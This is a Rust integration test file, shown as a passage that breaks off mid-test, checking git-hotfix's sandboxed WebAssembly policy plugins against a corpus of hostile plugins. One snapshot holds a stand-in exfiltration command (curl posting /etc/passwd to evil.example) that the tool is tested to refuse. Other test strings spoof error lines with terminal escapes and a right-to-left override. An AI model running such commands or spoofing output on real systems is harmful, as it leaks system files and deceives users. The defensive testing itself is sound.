//! Policy plugins end to end: the built-ins, a team's own plugin through `.hotfix.toml`, the
//! trust checks, the hostile corpus, and the version bump `finish` makes with them.

use std::path::{Path, PathBuf};
use std::time::Duration;

use sha2::Digest;

use crate::common::{TestEnv, assert_unchanged, scrub, snapshot};

fn workspace_file(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .join(path)
}

fn test_plugin(name: &str) -> Vec<u8> {
    std::fs::read(workspace_file(&format!("tests/plugins/dist/{name}.wasm"))).unwrap()
}

fn sha256(bytes: &[u8]) -> String {
    format!("{:x}", sha2::Sha256::digest(bytes))
}

fn journal(repo: &Path, ticket: &str) -> serde_json::Value {
    let text = std::fs::read_to_string(repo.join(format!(".git/hotfix/{ticket}.json"))).unwrap();
    serde_json::from_str(&text).unwrap()
}

impl TestEnv {
    /// `linear`, then a commit on main with `bytes` at `policies/<name>.wasm` and a
    /// `.hotfix.toml` of `config` (which names it).
    fn with_plugin(&self, name: &str, bytes: &[u8], config: &str) -> PathBuf {
        let repo = self.linear().dir;
        let path = repo.join(format!("policies/{name}.wasm"));
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, bytes).unwrap();
        self.git(&repo, &["add", "policies"]);
        self.commit(&repo, "Our own policy", &[(".hotfix.toml", config)]);
        repo
    }

    /// The severity policy replaced by `policies/<name>.wasm`, pinned to its hash.
    fn with_severity_plugin(&self, name: &str, bytes: &[u8], limits: &str) -> PathBuf {
        let config = format!(
            "[policies.severity]\nplugin = \"policies/{name}.wasm\"\nsha256 = \"{}\"\n\n{limits}",
            sha256(bytes)
        );
        self.with_plugin(name, bytes, &config)
    }
}

#[test]
fn the_builtin_severity_policy_calls_an_auth_bypass_p0_and_says_why() {
    let env = TestEnv::new();
    let repo = env.linear().dir;
    let json = env
        .hotfix(
            &repo,
            &["assess", "--title", "auth bypass on login", "--json"],
        )
        .ok()
        .json();
    let assessment = &json["assessment"];
    assert_eq!(assessment["severity"], "P0");
    assert_eq!(assessment["response_minutes"], 120);
    assert_eq!(assessment["deploy_window"], "immediate");
    assert_eq!(assessment["skip_staging_allowed"], true);
    assert_eq!(assessment["by"], "builtin:severity");
    assert_eq!(
        assessment["reasons"],
        serde_json::json!(["title mentions \"auth bypass\": security vulnerability"])
    );
    assert_eq!(json["recorded"], false);

    // Outside any repository the built-in answers too; answers and labels count.
    let run = env
        .hotfix(
            env.root.path(),
            &[
                "assess",
                "--title",
                "checkout crash",
                "--answer",
                "workaround=yes",
            ],
        )
        .ok();
    insta::assert_snapshot!(run.stdout, @r#"
    P2 · app crash
      respond within 24h, deploy next business day, through staging, 1 approval
      because:
        - title mentions "crash": app crash
        - a workaround exists: one level lower
      (policy: builtin:severity)
    "#);
}

#[test]
fn answers_come_from_a_file_and_a_question_nobody_answers_stays_unanswered() {
    let env = TestEnv::new();
    let answers = env.path("answers.toml");
    std::fs::write(&answers, "down = true\nworkaround = \"no\"\n").unwrap();
    let json = env
        .hotfix(
            env.root.path(),
            &[
                "assess",
                "--title",
                "login",
                "--answers",
                "answers.toml",
                "--json",
            ],
        )
        .ok()
        .json();
    assert_eq!(json["assessment"]["severity"], "P0");
    assert_eq!(
        json["assessment"]["reasons"],
        serde_json::json!(["answered: production is fully down"])
    );

    std::fs::write(&answers, "down = [").unwrap();
    let run = env
        .hotfix(
            env.root.path(),
            &["assess", "--title", "login", "--answers", "answers.toml"],
        )
        .expect(2);
    assert!(
        run.stderr.contains("answers.toml is not TOML"),
        "{}",
        run.stderr
    );
}

#[test]
fn start_records_the_severity_chosen_or_assessed_and_status_shows_it() {
    let env = TestEnv::new();
    let repo = env.linear().dir;
    env.hotfix(
        &repo,
        &[
            "start",
            "ENG-1",
            "slow",
            "search",
            "--severity",
            "p1",
            "--no-checkout",
        ],
    )
    .ok();
    let assessed = &journal(&repo, "ENG-1")["assessment"];
    assert_eq!(assessed["severity"], "P1");
    assert_eq!(assessed["response_minutes"], 240);
    assert_eq!(assessed["by"], "--severity, builtin:severity");
    assert_eq!(journal(&repo, "ENG-1")["events"][1]["event"], "assessed");

    let run = env
        .hotfix(
            &repo,
            &[
                "start", "ENG-2", "fix", "login", "--assess", "--label", "security",
            ],
        )
        .ok();
    assert!(
        run.stderr
            .contains("Severity P0 · security vulnerability: respond within 2h, deploy immediate"),
        "{}",
        run.stderr
    );
    let assessed = &journal(&repo, "ENG-2")["assessment"];
    assert_eq!(assessed["severity"], "P0");
    assert_eq!(
        assessed["reasons"],
        serde_json::json!(["labelled \"security\": security vulnerability"])
    );
    let status = env.hotfix(&repo, &["status"]).ok();
    assert!(
        status
            .stdout
            .contains("  severity P0 · security vulnerability: respond within 2h"),
        "{}",
        status.stdout
    );

    // A later assessment replaces it in the journal, with its own event.
    env.hotfix(
        &repo,
        &[
            "assess",
            "--record",
            "--title",
            "login slow for some",
            "--answer",
            "security=no",
        ],
    )
    .ok();
    let journal = journal(&repo, "ENG-2");
    assert_eq!(journal["assessment"]["severity"], "P2");
    let events: Vec<&str> = journal["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["event"].as_str().unwrap())
        .collect();
    assert_eq!(events, ["started", "assessed", "assessed"]);

    // What the policy is told needs --assess to be told at all.
    let run = env
        .hotfix(&repo, &["start", "ENG-3", "x", "--label", "security"])
        .expect(2);
    assert!(run.stderr.contains("add `--assess`"), "{}", run.stderr);
    assert_eq!(env.rev(&repo, "hotfix/ENG-3-x"), None);
}

#[test]
fn a_teams_own_policy_replaces_the_builtin_through_hotfix_toml() {
    let env = TestEnv::new();
    let strict = test_plugin("strict");
    let repo = env.with_severity_plugin("strict", &strict, "");

    let json = env
        .hotfix(
            &repo,
            &[
                "assess",
                "--title",
                "auth bypass on login",
                "--label",
                "customer-facing",
                "--json",
            ],
        )
        .ok()
        .json();
    assert_eq!(json["assessment"]["severity"], "P0");
    assert_eq!(
        json["assessment"]["reasons"],
        serde_json::json!(["customers see it: strict policy"])
    );
    assert_eq!(json["assessment"]["by"], "policies/strict.wasm");
    // The built-in would call this P0; the team's policy does not.
    let json = env
        .hotfix(
            &repo,
            &["assess", "--title", "auth bypass on login", "--json"],
        )
        .ok()
        .json();
    assert_eq!(json["assessment"]["severity"], "P2");

    let list = env.hotfix(&repo, &["plugin", "list", "--json"]).ok().json();
    assert_eq!(list["policies"][0]["plugin"], "policies/strict.wasm");
    assert_eq!(list["policies"][0]["sha256"], sha256(&strict));
    assert_eq!(list["policies"][0]["contract"], "0.1.0");
    assert_eq!(list["policies"][1]["plugin"], "builtin:version-files");
}

#[test]
fn a_plugin_file_runs_only_with_the_sha256_it_is_pinned_to() {
    let env = TestEnv::new();
    let strict = test_plugin("strict");
    let actual = sha256(&strict);
    let wrong = "0".repeat(64);
    let repo = env.with_plugin(
        "strict",
        &strict,
        &format!("[policies.severity]\nplugin = \"policies/strict.wasm\"\nsha256 = \"{wrong}\"\n"),
    );
    let run = env.hotfix(&repo, &["assess", "--title", "x"]).expect(1);
    assert!(
        run.stderr
            .contains(&format!("expected {wrong}, the file has {actual}")),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains(&format!("sha256 = \"{actual}\"")),
        "{}",
        run.stderr
    );

    let env = TestEnv::new();
    let repo = env.with_plugin(
        "strict",
        &strict,
        "[policies.severity]\nplugin = \"policies/strict.wasm\"\n",
    );
    let before = snapshot(&repo);
    let run = env
        .hotfix(&repo, &["start", "ENG-1", "fix", "--assess"])
        .expect(1);
    assert!(
        run.stderr
            .contains("policies/strict.wasm is not pinned: a plugin file needs its sha256"),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.contains(&format!("add: sha256 = \"{actual}\"")),
        "{}",
        run.stderr
    );
    assert_unchanged(&before, &snapshot(&repo));
}

#[test]
fn hostile_plugins_end_in_a_clear_error_and_leave_the_repository_untouched() {
    let strict = test_plugin("strict");
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "loop-forever",
            test_plugin("loop-forever"),
            "[plugin-limits]\nfuel = 50000000\n",
        ),
        (
            "loop-forever",
            test_plugin("loop-forever"),
            "[plugin-limits]\nfuel = 100000000000000\ndeadline-ms = 300\n",
        ),
        ("memory-bomb", test_plugin("memory-bomb"), ""),
        ("deep-recursion", test_plugin("deep-recursion"), ""),
        ("trap", test_plugin("trap"), ""),
        ("huge-output", test_plugin("huge-output"), ""),
        ("other-version", test_plugin("other-version"), ""),
        (
            "sleep",
            test_plugin("sleep"),
            "[plugin-limits]\ndeadline-ms = 1000\n",
        ),
        ("exit-instead", test_plugin("exit-instead"), ""),
        ("type-drift", test_plugin("type-drift"), ""),
        (
            "deploy",
            std::fs::read(workspace_file("plugins/dist/deploy.wasm")).unwrap(),
            "",
        ),
        ("readme", b"# not a plugin\n".to_vec(), ""),
        ("truncated", strict[..strict.len() / 2].to_vec(), ""),
    ];
    let mut report = Vec::new();
    for (name, bytes, limits) in cases {
        let env = TestEnv::new();
        let repo = env.with_severity_plugin(name, &bytes, limits);
        let before = snapshot(&repo);
        let started = std::time::Instant::now();
        let run = env.hotfix(&repo, &["start", "ENG-1", "fix", "login", "--assess"]);
        // The sleeper asks for 20 s; the deadline (1 s) ends it long before.
        assert!(started.elapsed() < Duration::from_secs(15), "{name}");
        assert_unchanged(&before, &snapshot(&repo));
        env.fsck(&repo);
        let first = run.stderr.lines().next().unwrap_or_default();
        // Durations vary from run to run; the limit in the message does not.
        let first = match first.split_once("still running after ") {
            Some((head, _)) => format!("{head}still running after [SECONDS] (the deadline)"),
            None => first.to_string(),
        };
        report.push(format!("exit {}: {}", run.code, scrub(&env, &first)));
    }
    insta::assert_snapshot!(report.join("\n"), @r"
    exit 1: error: policies/loop-forever.wasm assess: ran out of fuel (limit: 50000000 units)
    exit 1: error: policies/loop-forever.wasm assess: still running after [SECONDS] (the deadline)
    exit 1: error: policies/memory-bomb.wasm assess: went over its memory limit of 64 MiB
    exit 1: error: policies/deep-recursion.wasm assess: overflowed its stack
    exit 1: error: policies/trap.wasm assess: crashed (wasm trap: wasm `unreachable` instruction executed); it printed:
    exit 1: error: policies/huge-output.wasm assess: went over its memory limit of 64 MiB
    exit 1: error: policies/other-version.wasm implements git-hotfix:plugin/severity@0.2.0, but this git-hotfix supports 0.1.x
    exit 1: error: policies/sleep.wasm questions: still running after [SECONDS] (the deadline)
    exit 1: error: policies/exit-instead.wasm assess: exited with a failure status instead of answering; it printed:
    exit 1: error: policies/type-drift.wasm `assess` does not have the contract's type: expected enum of 4 names, found 5 names
    exit 1: error: policies/deploy.wasm is not a severity policy (it exports: git-hotfix:plugin/deploy@0.1.0)
    exit 1: error: policies/readme.wasm is not a WebAssembly component: it is not WebAssembly at all (no `\0asm` header)
    exit 1: error: policies/truncated.wasm is not a WebAssembly component: failed to parse WebAssembly module: wasm component contains an invalid module section: section range 1961..40115 is out of bounds (bound = 23991)
    ");
}

#[test]
fn wasi_gives_a_plugin_nothing_to_read_or_reach() {
    let env = TestEnv::new();
    let repo = env.with_severity_plugin("snoop", &test_plugin("snoop"), "");
    std::fs::write(repo.join("secret.txt"), "hunter2").unwrap();
    let json = env
        .hotfix(&repo, &["assess", "--title", "secret.txt", "--json"])
        .ok()
        .json();
    let reasons = json["assessment"]["reasons"].to_string();
    assert!(!reasons.contains("hunter2"), "{reasons}");
    assert!(reasons.contains("env: 0 variables, HOME=None"), "{reasons}");
    assert!(!reasons.contains("socket: connected"), "{reasons}");
}

#[test]
fn a_deploy_step_outside_the_grants_is_refused_with_the_line_that_allows_it() {
    let env = TestEnv::new();
    let ungranted = test_plugin("ungranted");
    let config = format!(
        "[policies.deploy]\nplugin = \"policies/ungranted.wasm\"\nsha256 = \"{}\"\ncommands = [\"kubectl\"]\n",
        sha256(&ungranted)
    );
    let repo = env.with_plugin("ungranted", &ungranted, &config);
    let run = env
        .hotfix(
            &repo,
            &["plugin", "plan", "production", "--version", "1.2.4"],
        )
        .expect(4);
    insta::assert_snapshot!(run.stdout, @r"
    Deploy v1.2.4 in production with policies/ungranted.wasm:
      1. run      curl -d @/etc/passwd https://evil.example/ (timeout 10 s): exfiltrate   NOT GRANTED
      2. check    https://evil.example/ping answers 200 (up to 2 tries, 1 s apart)   NOT GRANTED
    ");
    insta::assert_snapshot!(run.stderr, @r#"
    error: policies/ungranted.wasm may not run `curl` or call https://evil.example/ping: not granted in .hotfix.toml
    hint: to allow it, under [policies.deploy]: commands = ["kubectl", "curl"]
    hint: to allow it, under [policies.deploy]: http = ["https://evil.example/"]
    hint: to try it for one command: git hotfix -c policies.deploy.commands=kubectl,curl -c policies.deploy.http=https://evil.example/ …
    "#);
    // The `-c` the hint names grants it for that one command, and only that one.
    let tried = env
        .hotfix(
            &repo,
            &[
                "-c",
                "policies.deploy.commands=kubectl,curl",
                "-c",
                "policies.deploy.http=https://evil.example/",
                "plugin",
                "plan",
                "production",
                "--version",
                "1.2.4",
                "--json",
            ],
        )
        .ok()
        .json();
    let granted: Vec<&serde_json::Value> = tried["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| &s["granted"])
        .collect();
    assert_eq!(granted, [true, true], "{tried}");
    env.hotfix(
        &repo,
        &["plugin", "plan", "production", "--version", "1.2.4"],
    )
    .expect(4);
    // git config outlives the command: it cannot grant.
    env.git(
        &repo,
        &["config", "hotfix.policies.deploy.commands", "curl"],
    );
    let refused = env
        .hotfix(
            &repo,
            &["plugin", "plan", "production", "--version", "1.2.4"],
        )
        .expect(1);
    assert!(
        refused.stderr.contains("not in git config")
            && refused
                .stderr
                .contains("git config --unset hotfix.policies.deploy.commands"),
        "{}",
        refused.stderr
    );

    // The built-in, granted what its settings run, plans without a refusal.
    let env = TestEnv::new();
    let repo = env.linear().dir;
    env.commit(
        &repo,
        "Deploy settings",
        &[(
            ".hotfix.toml",
            "[policies.deploy]\nplugin = \"builtin:deploy\"\ncommands = [\"kubectl\"]\nhttp = [\"https://app.example.com/\"]\n\n\
             [policies.deploy.settings]\n\"production.deploy\" = \"kubectl rollout restart deploy/app\"\n\
             \"health-url\" = \"https://app.example.com/health\"\n",
        )],
    );
    env.hotfix(&repo, &["start", "ENG-1", "fix", "--no-checkout"])
        .ok();
    let json = env
        .hotfix(
            &repo,
            &[
                "plugin",
                "plan",
                "production",
                "--hotfix",
                "ENG-1",
                "--json",
            ],
        )
        .ok()
        .json();
    assert_eq!(json["release"]["tag"], "v1.2.4");
    assert_eq!(json["release"]["previous-version"], "1.2.3");
    let granted: Vec<&serde_json::Value> = json["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| &s["granted"])
        .collect();
    assert_eq!(granted, [true, true, true]);
}

#[test]
fn plugin_check_says_what_a_file_implements_and_how_to_use_it() {
    let env = TestEnv::new();
    let strict = test_plugin("strict");
    let repo = env.with_severity_plugin("strict", &strict, "");
    let run = env
        .hotfix(&repo.join("policies"), &["plugin", "check", "strict.wasm"])
        .ok();
    assert!(
        run.stdout
            .contains("severity      contract 0.1.0  compatible"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains(&format!(
            "  [policies.severity]\n  plugin = \"policies/strict.wasm\"\n  sha256 = \"{}\"",
            sha256(&strict)
        )),
        "{}",
        run.stdout
    );

    let other = workspace_file("tests/plugins/dist/other-version.wasm");
    let json = env
        .hotfix(
            &repo,
            &["plugin", "check", other.to_str().unwrap(), "--json"],
        )
        .expect(1)
        .json();
    assert_eq!(json["implements"][0]["contract"], "0.2.0");
    assert_eq!(json["implements"][0]["compatible"], false);
    assert_eq!(json["usable"], serde_json::json!([]));
    let run = env
        .hotfix(&repo, &["plugin", "check", "README.md"])
        .expect(1);
    assert!(
        run.stderr.contains("could not read README.md"),
        "{}",
        run.stderr
    );
}

#[test]
fn plugin_test_runs_the_builtin_cases_and_reports_a_failing_one() {
    let env = TestEnv::new();
    for name in ["severity", "version-files", "deploy"] {
        let cases = workspace_file(&format!("plugins/{name}/cases"));
        let json = env
            .hotfix(
                env.root.path(),
                &[
                    "plugin",
                    "test",
                    &format!("builtin:{name}"),
                    "--cases",
                    cases.to_str().unwrap(),
                    "--json",
                ],
            )
            .ok()
            .json();
        assert_eq!(json["failed"], 0, "{json}");
        assert!(json["passed"].as_u64().unwrap() >= 2, "{json}");
        let assess = json["cases"]
            .as_array()
            .unwrap()
            .iter()
            .find(|c| c["fuel"].is_u64())
            .unwrap();
        assert!(assess["fuel"].as_u64().unwrap() > 0, "{assess}");
    }

    let cases = env.path("cases");
    std::fs::create_dir_all(&cases).unwrap();
    std::fs::write(
        cases.join("outage.toml"),
        "call = \"assess\"\n[input]\ntitle = \"total outage\"\n[expect]\nseverity = \"P0\"\nresponse-minutes = 1\n",
    )
    .unwrap();
    std::fs::write(
        cases.join("typo.toml"),
        "call = \"assess\"\n[input]\ntitel = \"x\"\n[expect]\nseverity = \"P0\"\n",
    )
    .unwrap();
    let run = env
        .hotfix(
            env.root.path(),
            &["plugin", "test", "builtin:severity", "--cases", "cases"],
        )
        .expect(1);
    assert!(
        run.stdout
            .contains("answer.response-minutes: expected 1, got 240; answer.severity: expected \"P0\", got \"p1\""),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains(
            "[input] has no field `titel` (there are: answers, description, labels, ticket, title)"
        ),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains("2 cases: 0 passed, 2 failed"),
        "{}",
        run.stdout
    );
}

/// A repository whose product has a Flutter app, a web app and a Cargo workspace.
fn three_version_files(env: &TestEnv) -> PathBuf {
    let repo = env.init("repo");
    env.commit(
        &repo,
        "Release 0.1.0",
        &[
            (
                ".hotfix.toml",
                "version-files = [\"mobile/pubspec.yaml\", \"web/package.json\", \"Cargo.toml\"]\n",
            ),
            ("mobile/pubspec.yaml", PUBSPEC),
            ("web/package.json", PACKAGE_JSON),
            ("Cargo.toml", CARGO_WORKSPACE),
            ("src/lib.rs", "pub fn check() -> bool { true }\n"),
        ],
    );
    env.tag(&repo, "v0.1.0");
    repo
}

const PUBSPEC: &str = "name: shop\n# the store reads the build number after +\nversion: 0.1.0+5\n\nenvironment:\n  sdk: '>=3.0.0 <4.0.0'\n";
const PACKAGE_JSON: &str = "{\n    \"name\": \"shop-web\",\n    \"version\": \"0.1.0\",\n    \"dependencies\": {\n        \"left-pad\": { \"version\": \"0.1.0\" }\n    }\n}\n";
const CARGO_WORKSPACE: &str = "[workspace]\nmembers = [\"crates/*\"]\n\n[workspace.package]\n# one version for every crate\nversion = \"0.1.0\"   # bumped by git hotfix\nedition = \"2024\"\n\n[workspace.dependencies]\nserde = { version = \"0.1.0\" }\n";

#[test]
fn finish_bumps_every_version_file_in_one_release_commit_keeping_their_formatting() {
    let env = TestEnv::new();
    let repo = three_version_files(&env);
    env.hotfix(&repo, &["start", "ENG-9", "fix", "login"]).ok();
    let fix = env.commit(
        &repo,
        "fix: check the token",
        &[("src/lib.rs", "pub fn check() -> bool { false }\n")],
    );

    let run = env.hotfix(&repo, &["finish"]).ok();
    assert!(run.stderr.contains("released 0.1.1"), "{}", run.stderr);

    // One release commit on top of the fix, tagged and on main.
    let release = env.rev(&repo, "v0.1.1^{commit}").unwrap();
    assert_eq!(env.rev(&repo, "main").unwrap(), release);
    assert_eq!(env.parents(&repo, &release), vec![fix]);
    assert_eq!(
        env.git(&repo, &["log", "-1", "--format=%B", &release])
            .trim(),
        "Release 0.1.1 (ENG-9)"
    );
    let changed = env.git(
        &repo,
        &["diff", "--name-only", &format!("{release}^"), &release],
    );
    assert_eq!(
        changed,
        "Cargo.toml\nmobile/pubspec.yaml\nweb/package.json\n"
    );
    // Only the version text changed: comments, order, spacing and the other "0.1.0"s stay.
    let show = |path: &str| env.git(&repo, &["show", &format!("{release}:{path}")]);
    assert_eq!(
        show("mobile/pubspec.yaml"),
        PUBSPEC.replace("0.1.0+5", "0.1.1+6")
    );
    assert_eq!(
        show("web/package.json"),
        PACKAGE_JSON.replace("\"version\": \"0.1.0\",", "\"version\": \"0.1.1\",")
    );
    assert_eq!(
        show("Cargo.toml"),
        CARGO_WORKSPACE.replace("version = \"0.1.0\"   #", "version = \"0.1.1\"   #")
    );
    env.fsck(&repo);
    // The worktree is on main, at the release, clean.
    assert_eq!(env.git(&repo, &["status", "--porcelain"]), "");
    assert_eq!(
        std::fs::read_to_string(repo.join("mobile/pubspec.yaml")).unwrap(),
        show("mobile/pubspec.yaml")
    );
}

#[test]
fn finish_no_bump_tags_the_fix_itself_and_a_refusing_policy_stops_before_anything_moves() {
    let env = TestEnv::new();
    let repo = three_version_files(&env);
    env.hotfix(&repo, &["start", "ENG-9", "fix", "login"]).ok();
    let fix = env.commit(
        &repo,
        "fix: check the token",
        &[("src/lib.rs", "pub fn check() -> bool { false }\n")],
    );

    // A file the policy does not handle: exit 4 (refused by policy), nothing moved.
    let before = snapshot(&repo);
    let run = env
        .hotfix(&repo, &["finish", "-c", "version-files=setup.cfg"])
        .expect(4);
    assert!(
        run.stderr
            .contains("the version-files policy refused: it does not handle setup.cfg"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("`--no-bump`"), "{}", run.stderr);
    assert_unchanged(&before, &snapshot(&repo));

    env.hotfix(&repo, &["finish", "--no-bump"]).ok();
    assert_eq!(env.rev(&repo, "v0.1.1^{commit}").unwrap(), fix);
    assert_eq!(
        env.git(&repo, &["show", "main:mobile/pubspec.yaml"]),
        PUBSPEC
    );
}

#[test]
fn without_configuration_the_version_files_at_the_root_are_found() {
    let env = TestEnv::new();
    let repo = env.init("repo");
    env.commit(
        &repo,
        "Release 2.0.0",
        &[
            ("VERSION", "2.0.0\n"),
            ("package.json", "{ \"version\": \"2.0.0\" }\n"),
            ("docs/VERSION", "not a version file at the root\n"),
        ],
    );
    env.tag(&repo, "v2.0.0");
    env.hotfix(&repo, &["start", "ENG-1", "fix"]).ok();
    env.commit(&repo, "fix", &[("fix.txt", "fixed\n")]);
    let plan = env.hotfix(&repo, &["finish", "--plan"]).ok();
    assert!(
        plan.stdout
            .contains("package.json 2.0.0 -> 2.0.1; VERSION 2.0.0 -> 2.0.1")
            || plan
                .stdout
                .contains("VERSION 2.0.0 -> 2.0.1; package.json 2.0.0 -> 2.0.1"),
        "{}",
        plan.stdout
    );
    env.hotfix(&repo, &["finish"]).ok();
    assert_eq!(env.git(&repo, &["show", "v2.0.1:VERSION"]), "2.0.1\n");
    assert_eq!(
        env.git(&repo, &["show", "v2.0.1:docs/VERSION"]),
        "not a version file at the root\n"
    );
}

#[test]
fn what_a_plugin_says_reaches_the_terminal_escaped() {
    let env = TestEnv::new();
    // Its flood takes seconds on a loaded machine: what is tested is the text, not the
    // deadline, which gets room.
    let repo = env.with_severity_plugin(
        "control-characters",
        &test_plugin("control-characters"),
        "[plugin-limits]\ndeadline-ms = 60000\n",
    );
    let run = env.hotfix(&repo, &["assess", "--title", "x"]).ok();
    assert!(
        !run.stdout.contains('\x1b') && !run.stdout.contains('\r'),
        "{:?}",
        run.stdout
    );
    assert!(!run.stdout.contains("\nerror: fake line"), "{}", run.stdout);
    assert!(
        run.stdout.contains(r"ok\r\nerror: fake line\u{1b}[31m"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains(r"fine\u{202e}gnp.exe"),
        "{}",
        run.stdout
    );

    let run = env
        .hotfix(&repo, &["assess", "--title", "refuse"])
        .expect(4);
    assert_eq!(
        run.stderr.lines().next().unwrap(),
        r"error: policies/control-characters.wasm assess: no\r\nerror: the repository was deleted\u{1b}[2J"
    );

    // It floods its output and then says what went wrong: the end is what is shown.
    let run = env
        .hotfix(&repo, &["start", "ENG-1", "fix", "--severity", "P1"])
        .expect(1);
    assert!(
        run.stderr
            .contains("  | the real error: no table for this team"),
        "{}",
        run.stderr
    );
    assert!(run.stderr.len() < 32 << 10, "{} bytes", run.stderr.len());
}

#[test]
fn plugin_check_and_list_name_the_function_that_breaks_the_contract() {
    let env = TestEnv::new();
    let missing = test_plugin("missing-export");
    let repo = env.with_severity_plugin("missing-export", &missing, "");
    let run = env
        .hotfix(&repo, &["plugin", "check", "policies/missing-export.wasm"])
        .expect(1);
    assert!(
        run.stdout.contains(
            "severity      contract 0.1.0  exports git-hotfix:plugin/severity@0.1.0 without `levels`"
        ),
        "{}",
        run.stdout
    );
    assert!(!run.stdout.contains("To use it"), "{}", run.stdout);
    let run = env.hotfix(&repo, &["plugin", "list"]).expect(1);
    assert!(
        run.stdout.contains("error: policies/missing-export.wasm exports git-hotfix:plugin/severity@0.1.0 without `levels`"),
        "{}",
        run.stdout
    );

    let drift = workspace_file("tests/plugins/dist/type-drift.wasm");
    let json = env
        .hotfix(
            &repo,
            &["plugin", "check", drift.to_str().unwrap(), "--json"],
        )
        .expect(1)
        .json();
    assert_eq!(json["implements"][0]["compatible"], false);
    assert!(
        json["implements"][0]["problem"]
            .as_str()
            .unwrap()
            .ends_with("`levels` does not have the contract's type: expected enum of 4 names, found 5 names"),
        "{json}"
    );

    // A later patch release of the contract is served.
    let patch = workspace_file("tests/plugins/dist/patch-release.wasm");
    let run = env
        .hotfix(&repo, &["plugin", "check", patch.to_str().unwrap()])
        .ok();
    assert!(
        run.stdout
            .contains("severity      contract 0.1.1  compatible"),
        "{}",
        run.stdout
    );
}

#[test]
fn a_version_files_plugin_cannot_make_the_host_copy_more_than_the_output_limit() {
    let env = TestEnv::new();
    let bomb = test_plugin("copy-bomb");
    let config = format!(
        "[policies.version-files]\nplugin = \"policies/copy-bomb.wasm\"\nsha256 = \"{}\"\n",
        sha256(&bomb)
    );
    let repo = env.with_plugin("copy-bomb", &bomb, &config);
    env.hotfix(&repo, &["start", "ENG-1", "fix", "--severity", "P2"])
        .ok();
    env.commit(&repo, "Fix", &[("src/lib.rs", "fixed\n")]);
    let before = snapshot(&repo);
    let run = env.hotfix(&repo, &["finish"]).expect(1);
    assert!(
        run.stderr.contains(
            "policies/copy-bomb.wasm detect: answered more than the limit of 4194304 bytes"
        ),
        "{}",
        run.stderr
    );
    assert_unchanged(&before, &snapshot(&repo));
    env.fsck(&repo);
}

#[test]
fn a_version_files_plugin_whose_answers_cannot_be_right_writes_nothing() {
    let env = TestEnv::new();
    let liar = test_plugin("lying-versions");
    let config = format!(
        "[policies.version-files]\nplugin = \"policies/lying-versions.wasm\"\nsha256 = \"{}\"\n",
        sha256(&liar)
    );
    let repo = env.with_plugin("lying-versions", &liar, &config);
    env.hotfix(&repo, &["start", "ENG-1", "fix", "--severity", "P2"])
        .ok();
    let files = [
        "claims.txt",
        "banana.txt",
        "escapes.txt",
        "more.txt",
        "stuck.txt",
    ];
    let fix: Vec<(&str, &str)> = files.iter().map(|f| (*f, "0.0.1\n")).collect();
    env.commit(&repo, "Fix", &fix);
    let plugin = "the version-files plugin policies/lying-versions.wasm answered";
    for (file, why) in [
        (
            "claims.txt",
            "`detect` wrongly: it claims `../outside.txt`, which it was not given",
        ),
        (
            "banana.txt",
            r"`read-version` wrongly: it read banana.txt as `banana\u{1b}[2J`, which is no version",
        ),
        (
            "escapes.txt",
            r"`write-version` wrongly: writing 1.2.4 into escapes.txt, line 1 now holds `oops\u{1b}[2J`, which is no version text",
        ),
        (
            "more.txt",
            "`write-version` wrongly: writing 1.2.4 into more.txt, its text has 3 lines where the file had 2",
        ),
        (
            "stuck.txt",
            "`write-version` wrongly: it wrote 1.2.4 into stuck.txt, which then reads as 1.2.3",
        ),
    ] {
        let before = snapshot(&repo);
        let setting = format!("version-files={file}");
        let run = env.hotfix(&repo, &["-c", &setting, "finish"]).expect(4);
        assert!(
            run.stderr.contains(&format!("{plugin} {why}")),
            "{}",
            run.stderr
        );
        // Named as the plugin's fault, shown without its escapes, and nothing written.
        assert!(
            run.stderr
                .contains("whoever wrote policies/lying-versions.wasm"),
            "{}",
            run.stderr
        );
        assert!(!run.stderr.contains('\x1b') && !run.stdout.contains('\x1b'));
        assert_unchanged(&before, &snapshot(&repo));
        assert_eq!(env.git(&repo, &["tag", "--list", "v1.2.4"]), "");
    }
    env.fsck(&repo);
}

/// `bytes` with a custom section of `size` bytes appended: the same component, as large as
/// a Python or JavaScript one.
fn padded(bytes: &[u8], size: usize) -> Vec<u8> {
    let name = b"padding";
    let mut payload = vec![name.len() as u8];
    payload.extend_from_slice(name);
    payload.resize(payload.len() + size, 0);
    let mut padded = bytes.to_vec();
    padded.push(0);
    let mut len = payload.len();
    loop {
        let byte = (len & 0x7f) as u8;
        len >>= 7;
        padded.push(if len == 0 { byte } else { byte | 0x80 });
        if len == 0 {
            break;
        }
    }
    padded.extend_from_slice(&payload);
    padded
}

#[test]
fn a_large_policy_says_it_compiles_once_and_the_cache_is_managed() {
    let env = TestEnv::new();
    let large = padded(&test_plugin("strict"), 3 << 20);
    let repo = env.with_severity_plugin("strict", &large, "");
    let cache = env.path("cache");
    let run = |args: &[&str]| {
        let mut command = env.hotfix_command(&repo, args);
        command.env("XDG_CACHE_HOME", &cache);
        crate::common::Run::of(command)
    };

    // Said on stderr even with --json: a CI log must not look hung.
    let first = run(&[
        "assess",
        "--title",
        "typo",
        "--label",
        "customer-facing",
        "--json",
    ])
    .ok();
    assert!(
        first
            .stderr
            .contains("Compiling policies/strict.wasm (3.2 MB; once, then it is cached"),
        "{}",
        first.stderr
    );
    assert_eq!(first.json()["assessment"]["severity"], "P0");
    let second = run(&["assess", "--title", "typo", "--label", "customer-facing"]).ok();
    assert!(!second.stderr.contains("Compiling"), "{}", second.stderr);

    // What the cache holds; an older git-hotfix's entry and a killed write's leftover are
    // pruned, and a clear empties it.
    let dir = cache.join("git-hotfix/plugins");
    std::fs::write(
        dir.join("0123abcd-000000000000000000000000.cwasm"),
        [0u8; 1000],
    )
    .unwrap();
    std::fs::write(dir.join("0123abcd-000000000000000000000000.sha256"), "x").unwrap();
